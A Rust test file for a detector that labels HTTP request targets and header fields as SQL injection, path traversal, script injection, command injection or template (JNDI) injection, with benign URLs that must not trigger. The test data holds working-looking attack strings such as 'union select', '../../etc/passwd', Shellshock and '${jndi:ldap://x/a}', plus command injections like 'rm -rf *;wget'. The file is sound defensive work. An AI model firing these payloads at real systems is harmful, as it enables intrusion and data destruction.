//! What counts as a sign of an attack, and what ordinary requests hold.

use super::*;

fn words(target: &str) -> String {
    let mut text = String::new();
    Signs::of_target(target.as_bytes()).put(&mut text);
    text
}

#[test]
fn attacks_are_named() {
    for (target, kinds) in [
        ("/p?id=1%20UNION%20ALL%20SELECT%201,2--", "sql"),
        ("/p?id=1'/**/union/**/select/**/1", "sql"),
        ("/p?id=-1+union+select+user,password+from+users", "sql"),
        ("/p?id=1)union(select(null))", "sql"),
        ("/p?user=admin'--&x=1", "sql"),
        ("/p?id=1+or+1=1", "sql"),
        ("/p?id=%27%20or%20%271%27=%271", "sql"),
        ("/p?id=1-sleep(5)", "sql"),
        ("/p?id=1;select%20pg_sleep(5)", "sql"),
        ("/p?t=information_schema.tables", "sql"),
        ("/../../../../etc/passwd", "traversal"),
        ("/cgi-bin/.%2e/.%2e/.%2e/bin/sh", "traversal,command"),
        ("/x?f=..%2fconfig.php", "traversal"),
        ("/x?f=..%252f..%252fx", "traversal"),
        ("/x?f=..\\..\\windows\\win.ini", "traversal"),
        ("/x?f=/etc/passwd", "traversal"),
        ("/s?q=%3Cscript%3Ealert(1)%3C/script%3E", "script"),
        ("/s?q=%22%20onerror=alert(2)", "script"),
        ("/s?q=<svg/onload=alert(3)>", "script"),
        ("/ping?host=1.1.1.1;cat%20/x", "command"),
        ("/ping?host=1.1.1.1|id", "command"),
        ("/ping?host=1.1.1.1%0aid", "command"),
        ("/ping?host=`whoami`", "command"),
        ("/ping?host=a&&cat /x", "command"),
        ("/ping?host=$(curl+x)", "command"),
        ("/scripts/..%5c../winnt/system32/cmd.exe?/c+dir", "traversal,command"),
        ("/shell?cd+/tmp;rm+-rf+*;wget+http://x/y", "command"),
        ("/?x=${jndi:ldap://x/a}", "template"),
        ("/?x=%24%7B%24%7Blower:j%7Dndi", "template"),
        ("/?x={{7*7}}", "template"),
        ("/?x={{''.__class__}}", "template"),
        ("/?class.module.classLoader.resources=1", "template"),
    ] {
        assert_eq!(words(target), kinds, "{target}");
    }
}

#[test]
fn ordinary_addresses_and_searches_are_none() {
    for target in [
        "/",
        "/search?q=credit+union+selection",
        "/search?q=credit+union+select+account",
        "/search?q=select+a+union+hotel",
        "/search?q='cats'+or+'dogs'",
        "/search?q=how+to+sleep+(better)",
        "/search?q=rock+'n'+roll",
        "/recaptcha/api.js?onload=ready&render=explicit",
        "/api?fields=name|id",
        "/api?fields=name|id|date&sort=id",
        "/api?a=1;id=5;cat=7",
        "/a/../b/style.css",
        "/shop?cat=5&id=3&ls=2",
        "/js/jquery.min.js?v=$1",
        "/search?q=wait...what",
        "/d?filter=%7B%22a%22:%5B1,2%5D%7D",
        "/price?p=$(1)".trim_end_matches("$(1)"),
        "/calendar?from=2024-01-01&to=2024-02-01--x",
        "/file%20name%20(1).pdf",
        "/search?q=operating+system+(basics)",
        "/search?q=medieval(history)",
        "/wiki/Union_Select_Committee",
        "/q?x=1&and=1&or=1",
        "/img?src=a.png&onclick=track",
        "/a;jsessionid=5?x=1",
    ] {
        assert_eq!(words(target), "", "{target}");
    }
}

#[test]
fn of_fields_only_what_is_expanded_counts() {
    let of = |value: &[u8]| {
        let mut signs = Signs::default();
        signs.add_field(value);
        let mut text = String::new();
        signs.put(&mut text);
        text
    };
    assert_eq!(of(b"${jndi:ldap://x/a}"), "template");
    assert_eq!(of(b"() { :;}; /bin/bash -c id"), "command");
    assert_eq!(of(b"Mozilla/5.0 (X11; Linux x86_64) <script"), "");
    assert_eq!(of(b"price=${5}"), "");
}

proptest::proptest! {
    #[test]
    fn any_bytes_are_looked_at(bytes in proptest::collection::vec(proptest::prelude::any::<u8>(), 0..300)) {
        let mut signs = Signs::of_target(&bytes);
        signs.add_field(&bytes);
    }
}
